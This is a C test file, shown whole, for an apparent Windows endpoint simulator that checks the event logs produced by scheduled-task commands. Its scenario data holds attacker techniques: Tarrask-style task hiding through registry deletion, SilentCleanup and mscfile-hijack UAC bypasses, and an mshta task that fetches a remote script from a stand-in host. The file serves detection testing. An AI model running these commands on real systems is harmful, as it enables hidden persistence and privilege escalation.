    tl_regval *id = regval(&r, tl_buf_cstr(&k), "Id");
    assert_non_null(id);
    assert_string_equal((const char *)id->data, t->guid);
    assert_non_null(regval(&r, tl_buf_cstr(&k), "Index"));
    assert_non_null(regval(&r, tl_buf_cstr(&k), "SD"));
    tl_buf_reset(&k);
    tl_buf_printf(&k, TL_TASKCACHE "\\Tasks\\%s", t->guid);
    tl_regval *av = regval(&r, tl_buf_cstr(&k), "Actions");
    assert_non_null(av);
    assert_string_equal((const char *)regval(&r, tl_buf_cstr(&k), "Path")->data, c->task);
    int ver = 0;
    char *ctx = NULL;
    tl_task_action *acts = NULL;
    size_t n = 0;
    assert_int_equal(tl_task_actions_parse(av->data, av->len, &ver, &ctx, &acts, &n), TL_OK);
    assert_int_equal(ver, 3);
    assert_int_equal(n, 1);
    assert_string_equal(acts[0].command, c->cmd);
    assert_string_equal(ctx, t->context);
    tl_task_actions_free(acts, n);
    tl_free(ctx);
    /* hash of the file without BOM */
    char *data = NULL;
    size_t len = 0;
    assert_int_equal(tl_sim_read_file(r.sim, tl_buf_cstr(&fp), &data, &len), TL_OK);
    unsigned char h[32];
    tl_sha256(data + 2, len - 2, h);
    tl_regval *hv = regval(&r, tl_buf_cstr(&k), "Hash");
    assert_non_null(hv);
    assert_memory_equal(hv->data, h, 32);
    tl_free(data);
    tl_free(txt);
    tl_buf_free(&k);
    tl_buf_free(&fp);
    tl_buf_free(&steps);
    run_free(&r);
}

static void test_sim_threat_command_lines_register_tasks(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        check_case(&cases[i]);
}

static void test_sim_schtasks_schedule_types_map_to_triggers(void **state)
{
    (void)state;
    static const struct {
        const char *sw, *xml;
    } m[] = {
        {"/sc minute /mo 5", "<Interval>PT5M</Interval>"},
        {"/sc hourly /mo 2", "<Interval>PT2H</Interval>"},
        {"/sc daily /mo 3 /st 08:15", "<DaysInterval>3</DaysInterval>"},
        {"/sc weekly /d MON,FRI /st 08:15", "<Monday/>"},
        {"/sc monthly /mo LASTDAY /m JAN", "<Day>Last</Day>"},
        {"/sc monthly /mo first /d SUN", "<Week>1</Week>"},
        {"/sc monthly /d 15", "<Day>15</Day>"},
        {"/sc once /st 23:59 /sd 12/31/2022", "<StartBoundary>2022-12-31T23:59:00</StartBoundary>"},
        {"/sc onstart /delay 0001:30", "<Delay>PT1M30S</Delay>"},
        {"/sc onlogon", "<LogonTrigger>"},
        {"/sc onidle /i 10", "<IdleTrigger>"},
        {"/sc onevent /ec Security /mo \\\"*[System[EventID=4625]]\\\"", "<EventTrigger>"},
        {"/sc daily /st 09:00 /ri 15 /du 0002:00 /k",
         "<StopAtDurationEnd>true</StopAtDurationEnd>"},
        {"/sc daily /st 09:00 /ed 01/01/2030", "<EndBoundary>2030-01-01T23:59:59</EndBoundary>"},
        {"/sc onlogon /rl highest /np", "<LogonType>S4U</LogonType>"},
    };
    for (size_t i = 0; i < sizeof m / sizeof m[0]; i++) {
        char steps[1024];
        snprintf(steps, sizeof steps,
                 "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                 "/create /tn s%zu /tr calc.exe %s\"}]",
                 i, m[i].sw);
        run r;
        if (!run_steps(&r, steps, NULL, NULL)) {
            char msg[2048];
            tl_diag_format(&r.d, msg, sizeof msg);
            print_error("%s: %s\n", m[i].sw, msg);
            fail();
        }
        char path[80];
        snprintf(path, sizeof path, "C:\\Windows\\System32\\Tasks\\s%zu", i);
        char *txt = task_text(&r, path);
        assert_non_null(txt);
        if (!strstr(txt, m[i].xml)) {
            print_error("%s: XML lacks %s:\n%s\n", m[i].sw, m[i].xml, txt);
            fail();
        }
        tl_free(txt);
        run_free(&r);
    }
}

static void test_sim_powershell_parent_loads_taskschd_once(void **state)
{
    (void)state;
    run r;
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"parent\":\"C:\\\\"
                  "Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
                  "\"command\":\"$a = New-ScheduledTaskAction -Execute calc.exe; "
                  "Register-ScheduledTask -TaskName p1 -Action $a -Trigger "
                  "(New-ScheduledTaskTrigger -AtStartup) -User SYSTEM; Unregister-ScheduledTask "
                  "-TaskName p1 -Confirm:$false\"}]",
                  NULL, have_shared() ? MODULAR : NULL));
    const char *o = out(&r);
    const char *p = strstr(o, "taskschd.dll</Data>");
    assert_non_null(p);
    assert_null(strstr(p + 1, "<Data Name='ImageLoaded'>C:\\Windows\\System32\\taskschd.dll"));
    assert_null(strstr(o, "schtasks.exe")); /* cmdlets: no schtasks process */
    assert_null(tl_task_find(r.sim, "\\p1"));
    run_free(&r);
}

static void test_sim_cmd_child_has_double_space_and_syswow64(void **state)
{
    (void)state;
    run r;
    /* EVTX rundll32_cmd_schtask: a 32-bit parent runs cmd /C schtasks */
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"parent\":\"C:\\\\Windows\\\\SysWOW64\\\\"
                  "rundll32.exe\",\"command\":\"\\\"C:\\\\Windows\\\\System32\\\\cmd.exe\\\""
                  "  /C schtasks /Create /f /tn X /sc onlogon /tr calc.exe\"}]",
                  NULL, have_shared() ? MODULAR : NULL));
    const char *o = out(&r);
    if (have_shared()) { /* the default config does not log cmd.exe */
        assert_non_null(strstr(o, "<Data Name='Image'>C:\\Windows\\SysWOW64\\cmd.exe</Data>"));
        assert_non_null(strstr(o, "<Data Name='CommandLine'>\"C:\\Windows\\System32\\cmd.exe\"  "
                                  "/C schtasks /Create"));
    }
    assert_non_null(strstr(o, "<Data Name='Image'>C:\\Windows\\SysWOW64\\schtasks.exe</Data>"));
    assert_non_null(strstr(o, "<Data Name='CommandLine'>schtasks  /Create /f /tn X /sc onlogon"));
    assert_non_null(tl_task_find(r.sim, "\\X"));
    run_free(&r);
    /* "wow64": true marks any parent as 32-bit */
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"bob\",\"wow64\":true,\"parent\":\"C:\\\\Users"
                          "\\\\bob\\\\Desktop\\\\p.exe\",\"command\":\"\\\"C:\\\\Windows\\\\"
                          "System32\\\\schtasks.exe\\\" /Create /TN u /tr x.exe /sc onlogon\"}]",
                          NULL, NULL));
    assert_non_null(strstr(out(&r), "<Data Name='Image'>C:\\Windows\\SysWOW64\\schtasks.exe"));
    assert_non_null(strstr(out(&r), "<Data Name='CommandLine'>\"C:\\Windows\\System32\\"
                                    "schtasks.exe\" /Create"));
    assert_non_null(strstr(out(&r), "<Data Name='ParentImage'>C:\\Users\\bob\\Desktop\\p.exe"));
    run_free(&r);
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /create /tn x /tr "
                          "calc.exe /sc onlogon\"}]",
                          NULL, NULL));
    assert_non_null(strstr(out(&r), "<Data Name='CommandLine'>schtasks  /create /tn x"));
    assert_non_null(strstr(out(&r), "<Data Name='IntegrityLevel'>Medium</Data>"));
    assert_non_null(strstr(out(&r), "<Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe"));
    run_free(&r);
}

/* endpoint.windir: a host whose Windows folder is spelled C:\WINDOWS (evasion.md 2.5, 3.2, the
 * BOTS v2 hosts): Sysmon's paths under it and %windir% take that casing; what was typed keeps
 * its own. */
static void test_sim_windir_casing(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":"
                          "\"schtasks /create /tn x /tr \\\"%windir%\\\\notepad.exe\\\" /sc onlogon\"},"
                          "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"parent\":\"C:\\\\Windows"
                          "\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"command\":"
                          "\"schtasks /create /tn y /tr calc.exe /sc onlogon\"}]",
                          ",\"windir\":\"C:\\\\WINDOWS\"", NULL));
    const char *o = out(&r);
    /* the Schedule service's task file (Event 11): writer and path in the host's casing */
    assert_non_null(strstr(o, "<Data Name='Image'>C:\\WINDOWS\\system32\\svchost.exe</Data>"
                              "<Data Name='TargetFilename'>C:\\WINDOWS\\System32\\Tasks\\x</Data>"));
    /* cmd keeps the typed program token; the image is resolved in the Windows folder */
    assert_non_null(strstr(o, "<Data Name='Image'>C:\\WINDOWS\\System32\\schtasks.exe</Data>"));
    assert_non_null(strstr(o, "<Data Name='CommandLine'>schtasks  /create /tn x /tr "
                              "\"C:\\WINDOWS\\notepad.exe\""));
    /* PowerShell starts it by %SystemRoot%'s path (BOTS v2: "C:\WINDOWS\system32\schtasks.exe") */
    assert_non_null(strstr(o, "<Data Name='CommandLine'>\"C:\\WINDOWS\\system32\\schtasks.exe\" "
                              "/create /tn y"));
    assert_null(strstr(o, "C:\\Windows\\"));
    run_free(&r);
}

static void test_sim_invalid_command_lines_are_step_errors(void **state)
{
    (void)state;
    static const struct {
        const char *cmd, *msg;
    } bad[] = {
        {"schtasks /create /tn x /tr calc.exe /sc onlogon /zz",
         "$.steps[0].command: schtasks "
         "/create: invalid argument/option - '/zz'"},
        {"schtasks /create /tn x /tr calc.exe /sc sometimes", "invalid value 'sometimes' for /SC"},
        {"schtasks /create /tn \\\"a|b\\\" /tr calc.exe /sc onlogon", "invalid task name"},
        {"schtasks /create /tn x /tr calc.exe /sc minute /mo 5000", "invalid value '5000' for /MO"},
        {"schtasks /create /tn x /tr calc.exe /sc daily /st 25:00", "invalid start time '25:00'"},
        {"schtasks /create /tn x /sc onlogon", "/TR is required"},
        {"schtasks /create /tn x /xml C:\\\\nope.xml", "does not exist on the endpoint"},
        {"schtasks /frobnicate", "invalid argument/option - '/frobnicate'"},
        {"reg add HKXX\\\\Software /v a /d b /f", "reg add: invalid key name"},
        {"reg add HKCU\\\\Software\\\\x /v a /t REG_DWORD /d zz /f", "invalid REG_DWORD data"},
        {"powershell -Command \\\"Register-ScheduledTask -TaskName -Action $a\\\"",
         "missing value for parameter -TaskName"},
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        char steps[1024];
        snprintf(steps, sizeof steps,
                 "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"%s\"}]",
                 bad[i].cmd);
        run r;
        assert_false(run_steps(&r, steps, NULL, NULL));
        char m[2048];
        tl_diag_format(&r.d, m, sizeof m);
        if (r.st != TL_E_PARSE || !strstr(m, bad[i].msg)) {
            print_error("%s: expected \"%s\", got %d: %s\n", bad[i].cmd, bad[i].msg, r.st, m);
            fail();
        }
        assert_non_null(strstr(m, "scenarios/t.json: $.steps[0].command: "));
        run_free(&r);
    }
    /* a malformed /xml file */
    run r;
    assert_false(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":"
                  "\"C:\\\\t.xml\",\"content\":\"<Task><oops></Task>\"}},{\"at\":1,\"user\":"
                  "\"alice\",\"command\":\"schtasks /create /tn t /xml C:\\\\t.xml\"}]",
                  NULL, NULL));
    assert_int_equal(r.st, TL_E_PARSE);
    char m[2048];
    tl_diag_format(&r.d, m, sizeof m);
    assert_non_null(
        strstr(m, "$.steps[1].command: schtasks /create: C:\\t.xml: malformed task XML"));
    run_free(&r);
}

static void test_sim_runtime_refusals_change_nothing(void **state)
{
    (void)state;
    run r;
    /* bob is no administrator: /ru SYSTEM is access denied; the process is still seen */
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"bob\",\"command\":\"schtasks /create /tn x /tr "
                  "calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":1,\"user\":\"bob\",\"command\":"
                  "\"reg add HKLM\\\\Software\\\\x /f\"}]",
                  NULL, NULL));
    assert_null(tl_task_find(r.sim, "\\x"));
    assert_null(tl_reg_find(r.sim, "HKLM\\Software\\x"));
    assert_non_null(strstr(out(&r), "schtasks  /create /tn x"));
    run_free(&r);
    /* existing task without /f: not replaced */
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /create /tn x /tr "
                  "a.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\",\"command\":\"schtasks "
                  "/create /tn x /tr b.exe /sc onlogon\"}]",
                  NULL, NULL));
    assert_string_equal(tl_task_find(r.sim, "\\x")->actions[0].command, "a.exe");
    run_free(&r);
}

/* issue 10: Windows refuses a /xml task file with a DOCTYPE: schtasks exits
 * non-zero (the || branch runs) and no task is registered. */
static void test_sim_schtasks_xml_doctype_refused(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":\"c:\\\\t.xml\","
        "\"content\":\"<?xml version=\\\"1.0\\\"?><!DOCTYPE Task [<!ENTITY e \\\"calc.exe\\\">]>"
        "<Task version=\\\"1.2\\\" "
        "xmlns=\\\"http://schemas.microsoft.com/windows/2004/02/mit/task\\\"><Actions>"
        "<Exec><Command>c:\\\\windows\\\\system32\\\\cmd.exe</Command></Exec></Actions>"
        "</Task>\"}},{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"cmd /c "
        "schtasks /create /xml c:\\\\t.xml /tn dt || reg add HKCU\\\\Software\\\\refused /f\"}]",
        NULL, NULL));
    assert_null(tl_task_find(r.sim, "\\dt"));
    char key[300];
    snprintf(key, sizeof key, "HKU\\%s\\Software\\refused", r.sim->users[1].sid);
    assert_non_null(tl_reg_find(r.sim, key));
    run_free(&r);
}

/* issue 10: task names that differ only in (non-ASCII) case name one task:
 * the second /create without /f is refused (exit 1) and changes nothing. */
static void test_sim_schtasks_unicode_case_folded(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /create /tn \\\"\xc3\x9cn\xc3\xaf" "code"
        "\xd0\xb6\xce\xbb\xc5\x91\\\" /tr a.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\","
        "\"command\":\"cmd /c schtasks /create /tn \\\"\xc3\x9cN\xc3\x8f" "CODE\xd0\x96\xce\x9b\xc5\x90"
        "\\\" /tr b.exe /sc onlogon || reg add HKCU\\\\Software\\\\exists /f\"}]",
        NULL, NULL));
    tl_task *t = tl_task_find(r.sim, "\\\xc3\x9cn\xc3\xaf" "code\xd0\xb6\xce\xbb\xc5\x91");
    assert_non_null(t);
    assert_string_equal(t->actions[0].command, "a.exe");
    assert_ptr_equal(tl_task_find(r.sim, "\\\xc3\x9cN\xc3\x8f" "CODE\xd0\x96\xce\x9b\xc5\x90"), t);
    char key[300];
    snprintf(key, sizeof key, "HKU\\%s\\Software\\exists", r.sim->users[1].sid);
    assert_non_null(tl_reg_find(r.sim, key));
    size_t n = 0;
    for (size_t i = 0; i < r.sim->ntasks; i++)
        n += !r.sim->tasks[i].deleted && strstr(r.sim->tasks[i].path, "CODE") != NULL;
    assert_int_equal(n, 0);
    run_free(&r);
}

static void test_sim_delete_change_disable(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn "
        "\\\"Updates\\\\u1\\\" /tr a.exe /sc onlogon /ru SYSTEM\"},"
        "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /change /tn "
        "Updates\\\\u1 /tr \\\"C:\\\\b.exe -x\\\"\"},"
        "{\"at\":2,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /change /tn "
        "\\\\Updates\\\\u1 /disable\"}]",
        NULL, NULL));
    tl_task *t = tl_task_find(r.sim, "\\Updates\\u1");
    assert_non_null(t);
    assert_string_equal(t->actions[0].command, "C:\\b.exe");
    assert_string_equal(t->actions[0].arguments, "-x");
    assert_false(t->enabled);
    char *txt = task_text(&r, "C:\\Windows\\System32\\Tasks\\Updates\\u1");
    assert_non_null(strstr(txt, "<Enabled>false</Enabled>\r\n  </Settings>") ||
                    strstr(txt, "<Enabled>false</Enabled>"));
    tl_free(txt);
    run_free(&r);
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn "
        "test-task /tr calc.exe /sc onlogon /ru System /f\"},"
        "{\"at\":60,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn "
        "test-task\"}]",
        NULL, NULL));
    assert_null(tl_task_find(r.sim, "\\test-task"));
    assert_null(tl_reg_find(r.sim, TL_TASKCACHE "\\Tree\\test-task"));
    char *data;
    size_t len;
    assert_int_equal(
        tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\test-task", &data, &len),
        TL_E_NOTFOUND);
    assert_non_null(strstr(out(&r), "<Data Name='EventType'>DeleteKey</Data>"));
    run_free(&r);
}

static void test_sim_tarrask_and_index_hiding(void **state)
{
    (void)state;
    const char *steps =
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn "
        "WinUpdate /tr C:\\\\Windows\\\\Temp\\\\w.exe /sc daily /st 10:00 /ru SYSTEM\"},"
        "{\"at\":5,\"user\":\"SYSTEM\",\"command\":\"reg delete \\\"HKLM\\\\SOFTWARE\\\\Microsoft"
        "\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tree\\\\WinUpdate\\\" /v SD "
        "/f\"},{\"at\":6,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /run /tn "
        "WinUpdate\"}]";
    const char *cfg = have_shared() ? MODULAR : NULL;
    run r;
    assert_true(run_steps(&r, steps, NULL, cfg));
    tl_task *t = tl_task_find(r.sim, "\\WinUpdate");
    assert_non_null(t);
    assert_false(tl_task_visible(r.sim, t));
    char *q = NULL;
    assert_int_equal(tl_sim_schtasks_query(r.sim, "CSV", &q), TL_OK);
    assert_null(strstr(q, "WinUpdate"));
    assert_non_null(strstr(q, "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"));
    tl_free(q);
    /* still in the task file: the AR program can read it */
    char *txt = task_text(&r, "C:\\Windows\\System32\\Tasks\\WinUpdate");
    assert_non_null(txt);
    tl_free(txt);
    if (cfg) {
        assert_non_null(strstr(out(&r), "<Data Name='EventType'>DeleteValue</Data>"));
        assert_non_null(strstr(out(&r), "TaskCache\\Tree\\WinUpdate\\SD</Data>"));
        assert_non_null(
            strstr(out(&r), "<Data Name='Image'>C:\\Windows\\System32\\reg.exe</Data>"));
    }
    run_free(&r);
    /* a non-SYSTEM administrator cannot touch TaskCache */
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                  "/create /tn W2 /tr w.exe /sc onlogon\"},{\"at\":1,\"user\":\"alice\","
                  "\"elevated\":true,\"command\":\"reg add \\\"HKLM\\\\SOFTWARE\\\\Microsoft"
                  "\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\Tree\\\\W2\\\""
                  " /v Index /t REG_DWORD /d 0 /f\"}]",
                  NULL, NULL));
    assert_true(tl_task_visible(r.sim, tl_task_find(r.sim, "\\W2")));
    run_free(&r);
}

static void test_sim_lokibot_silentcleanup_runs_elevated(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"command\":\"schtasks /Run /TN "
                          "\\\\Microsoft\\\\Windows\\\\DiskCleanup\\\\SilentCleanup /I\"}]",
                          NULL, NULL));
    int found = 0;
    for (size_t i = 0; i < r.sim->nprocs; i++) {
        const tl_proc *p = &r.sim->procs[i];
        if (!strstr(p->image, "cleanmgr.exe"))
            continue;
        found = 1;
        assert_int_equal(p->user, 1);      /* alice */
        assert_int_equal(p->integrity, 2); /* High: the UAC bypass */
        assert_string_equal(p->cmdline, "C:\\Windows\\system32\\cleanmgr.exe /autoclean /d C:");
        assert_true(r.sim->procs[p->parent].pid == r.sim->procs[r.sim->schedule_svc].pid);
    }
    assert_true(found);
    run_free(&r);
}

/* The process a run of image `name` created, or NULL. */
static const tl_proc *proc_named(run *r, const char *name)
{
    for (size_t i = 0; i < r->sim->nprocs; i++)
        if (strstr(r->sim->procs[i].image, name))
            return &r->sim->procs[i];
    return NULL;
}

/* Documents go through their file type's open command (ShellExecute), read from
 * the classes the user sees; /RL HIGHEST gives an administrator's task the High
 * token (Atomic T1053.005 #11/#12: HKCU mscfile hijack + elevated task). */
static void test_sim_shell_open_and_run_level(void **state)
{
    (void)state;
    run r;
    /* stock association: mmc.exe opens the console, at the caller's level */
    assert_true(run_steps(&r, "[{\"at\":0,\"user\":\"bob\",\"command\":\"compmgmt.msc\"}]", NULL,
                          NULL));
    const tl_proc *p = proc_named(&r, "mmc.exe");
    assert_non_null(p);
    assert_string_equal(p->image, "C:\\Windows\\system32\\mmc.exe");
    assert_string_equal(p->cmdline,
                        "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\System32\\compmgmt.msc\"");
    assert_int_equal(p->integrity, 1);
    assert_null(proc_named(&r, "compmgmt.msc"));
    run_free(&r);

    /* the per-user mscfile hijack wins over HKCR; the elevated task runs it High */
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"reg add "
        "\\\"HKCU\\\\Software\\\\Classes\\\\mscfile\\\\shell\\\\open\\\\command\\\" /ve /t "
        "REG_EXPAND_SZ /d \\\"c:\\\\windows\\\\System32\\\\calc.exe\\\" /f\"},"
        "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /Create /TN EvB /TR "
        "eventvwr.msc /SC ONLOGON /RL HIGHEST /F\"},"
        "{\"at\":2,\"user\":\"alice\",\"command\":\"schtasks /Run /TN EvB\"}]",
        NULL, NULL));
    p = proc_named(&r, "calc.exe");
    assert_non_null(p);
    assert_string_equal(p->image, "C:\\windows\\System32\\calc.exe");
    assert_string_equal(p->cmdline, "c:\\windows\\System32\\calc.exe");
    assert_int_equal(p->user, 1);
    assert_int_equal(p->integrity, 2); /* High, no UAC prompt */
    assert_true(r.sim->procs[p->parent].pid == r.sim->procs[r.sim->schedule_svc].pid);
    assert_null(proc_named(&r, "eventvwr.msc"));
    run_free(&r);

    /* without /RL HIGHEST the same administrator's task runs Medium; a batch
     * action starts cmd.exe /c as CreateProcess does */
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"file\":{\"op\":\"write\",\"path\":"
                          "\"C:\\\\Tools\\\\up.bat\",\"content\":\"@echo off\\r\\n:: nightly\\r\\n"
                          "whoami > C:\\\\Tools\\\\who.txt\\r\\n\"}},"
                          "{\"at\":0.5,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                          "/Create /TN B /TR C:\\\\Tools\\\\up.bat /SC ONLOGON /F\"},"
                          "{\"at\":1,\"user\":\"alice\",\"command\":\"schtasks /Run /TN B\"}]",
                          NULL, NULL));
    p = NULL;
    for (size_t i = 0; i < r.sim->nprocs; i++)
        if (strstr(r.sim->procs[i].cmdline, "up.bat") &&
            strstr(r.sim->procs[i].image, "cmd.exe"))
            p = &r.sim->procs[i];
    assert_non_null(p);
    assert_string_equal(p->cmdline, "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Tools\\up.bat\" \"");
    assert_int_equal(p->integrity, 1);
    assert_null(proc_named(&r, "up.bat"));
    /* the batch file's lines run in that cmd.exe: whoami is its child, its
     * output file is written */
    const tl_proc *w = proc_named(&r, "whoami.exe");
    assert_non_null(w);
    assert_true(&r.sim->procs[w->parent] == p);
    assert_non_null(tl_fs_find(r.sim, "C:\\Tools\\who.txt"));
    run_free(&r);
}

/* A switch of a cmdlet tasklab does not model (-UseBasicParsing) and member
 * access on a parenthesised expression do not stop the script. */
static void test_sim_powershell_unknown_switch_and_member(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"parent\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell"
        "\\\\v1.0\\\\powershell.exe\",\"command\":\"$r = (Invoke-WebRequest -Uri http://x/y "
        "-UseBasicParsing).Content; $n = (Get-Date).ToString('yyyy (MM)'); Register-ScheduledTask "
        "-TaskName T1 -Action (New-ScheduledTaskAction -Execute 'calc.exe') -Trigger "
        "(New-ScheduledTaskTrigger -AtLogon)\"}]",
        NULL, NULL));
    char *x = task_text(&r, "C:\\Windows\\System32\\Tasks\\T1");
    assert_non_null(x);
    assert_non_null(strstr(x, "<Command>calc.exe</Command>"));
    tl_free(x);
    run_free(&r);
}

/* A logon step runs the tasks whose LogonTrigger is for any user or for the
 * user logging on; the action runs as the task's principal. */
static void test_sim_logon_step_fires_logon_tasks(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn "
        "test-task /tr \\\"C:\\\\Windows\\\\System32\\\\calc.exe\\\" /sc onlogon /ru System /f\"},"
        "{\"at\":1,\"user\":\"alice\",\"parent\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell"
        "\\\\v1.0\\\\powershell.exe\",\"command\":\"Register-ScheduledTask -TaskName OnlyAlice "
        "-Action (New-ScheduledTaskAction -Execute 'notepad.exe') -Trigger "
        "(New-ScheduledTaskTrigger -AtLogOn -User alice)\"},"
        "{\"at\":60,\"logon\":\"bob\"}]",
        NULL, NULL));
    const tl_proc *p = proc_named(&r, "calc.exe");
    assert_non_null(p);
    assert_int_equal(p->user, 0);
    assert_int_equal(p->integrity, 3);
    assert_true(r.sim->procs[p->parent].pid == r.sim->procs[r.sim->schedule_svc].pid);
    assert_null(proc_named(&r, "notepad.exe")); /* alice's trigger, bob logged on */
    run_free(&r);

    /* a logon step names a listed user */
    char *j = scen_json("[{\"at\":0,\"logon\":\"SYSTEM\"}]", NULL);
    expect_load_error(j, "$.steps[0].logon: unknown user \"SYSTEM\"");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"logon\":\"bob\",\"command\":\"whoami\"}]", NULL);
    expect_load_error(j, "a step needs exactly one of");
    tl_free(j);
}

/* A trigger step runs the task as the Schedule service does when its trigger
 * comes due; on Windows 7 under a taskeng.exe per user and run level. */
static void test_sim_trigger_step_and_win7_taskeng(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"bob\",\"command\":\"schtasks /create /sc MINUTE "
                          "/MO 60 /TN MSOFFICE_ /TR \\\"mshta.exe https://x.example/i.txt\\\" /F\"},"
                          "{\"at\":3600,\"trigger\":\"MSOFFICE_\"},"
                          "{\"at\":7200,\"trigger\":\"\\\\MSOFFICE_\"}]",
                          ",\"os_build\":\"6.1.7601\"", NULL));
    const tl_proc *eng = proc_named(&r, "taskeng.exe");
    assert_non_null(eng);
    assert_true(r.sim->procs[eng->parent].pid == r.sim->procs[r.sim->schedule_svc].pid);
    assert_string_equal(r.sim->procs[r.sim->schedule_svc].cmdline,
                        "C:\\Windows\\system32\\svchost.exe -k netsvcs");
    assert_non_null(strstr(eng->cmdline, ":DESKTOP-4E0BQFT\\bob:Interactive:LUA[1]"));
    int runs = 0, engines = 0;
    for (size_t i = 0; i < r.sim->nprocs; i++) {
        const tl_proc *p = &r.sim->procs[i];
        if (strstr(p->image, "mshta.exe")) {
            runs++;
            assert_true(&r.sim->procs[p->parent] == eng);
            assert_string_equal(p->cmdline, "mshta.exe https://x.example/i.txt");
            assert_int_equal(p->integrity, 1);
        }
        engines += strstr(p->image, "taskeng.exe") != NULL;
    }
    assert_int_equal(runs, 2);    /* both triggers */
    assert_int_equal(engines, 1); /* one engine for bob at Medium */
    run_free(&r);

    /* a task that never existed is the scenario's mistake; a deleted one runs nothing */
    assert_false(run_steps(&r, "[{\"at\":0,\"trigger\":\"nope\"}]", NULL, NULL));
    char m[2048];
    tl_diag_format(&r.d, m, sizeof m);
    assert_non_null(strstr(m, "$.steps[0].trigger: no task \"nope\" on the endpoint"));
    run_free(&r);
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                          "/create /tn gone /tr calc.exe /sc daily /st 09:00 /f\"},"
                          "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                          "/delete /tn gone /f\"},{\"at\":2,\"trigger\":\"gone\"}]",
                          NULL, NULL));
    assert_null(proc_named(&r, "calc.exe"));
    run_free(&r);
}

/* A task run in TaskScheduler/Operational: 100, 200, 129 (with the action's PID),
 * 201, 102, in that order. */
static void test_sim_taskscheduler_run_events(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                          "/create /tn T /tr notepad.exe /sc daily /st 09:00 /f\"},"
                          "{\"at\":60,\"trigger\":\"T\"}]",
                          ",\"channels\":{\"security\":false,\"taskscheduler\":true}", NULL));
    const char *o = out(&r);
    const char *ids[] = {"<EventID>100<", "<EventID>200<", "<EventID>129<", "<EventID>201<",
                         "<EventID>102<"};
    const char *at = o;
    for (size_t i = 0; i < 5; i++) {
        const char *p = strstr(at, ids[i]);
        if (!p) {
            print_error("missing or out of order: %s\n", ids[i]);
            fail();
        }
        at = p;
    }
    const tl_proc *np = proc_named(&r, "notepad.exe");
    assert_non_null(np);
    char want[64];
    snprintf(want, sizeof want, "<Data Name='ProcessID'>%u</Data>", np->pid);
    assert_non_null(strstr(o, want));
    assert_non_null(strstr(o, "<EventData Name='CreatedTaskProcess'>"));
    assert_non_null(strstr(o, "<Data Name='UserContext'>DESKTOP-4E0BQFT\\alice</Data>"));
    run_free(&r);
}

